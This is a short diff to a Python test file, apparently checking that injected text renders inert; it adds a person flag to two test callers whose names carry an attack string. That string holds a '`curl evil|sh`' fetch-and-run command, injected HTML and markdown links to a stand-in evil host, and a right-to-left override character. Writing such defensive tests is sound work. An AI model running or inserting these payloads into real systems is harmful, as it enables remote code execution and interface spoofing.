@@ -19,8 +19,8 @@ from tests.support.harmless import check_inert, check_page, check_text
 CONSOLE = f"https://{APP_HOST}/api/desk"
 ATTACK = "`curl evil|sh`<button>OK</button>[x](https://evil.example)\u202e"
 POLICY = "`curl evil|sh` <b>x</b> [x](//evil)"
-ADA = Caller(f"Ada {ATTACK}", "00000000-0000-4000-8000-00000000000a")
-BOB = Caller(f"Bob {ATTACK}", "00000000-0000-4000-8000-00000000000b")
+ADA = Caller(f"Ada {ATTACK}", "00000000-0000-4000-8000-00000000000a", is_person=True)
+BOB = Caller(f"Bob {ATTACK}", "00000000-0000-4000-8000-00000000000b", is_person=True)
 
 
 def sentences(value: object) -> Iterator[str]:
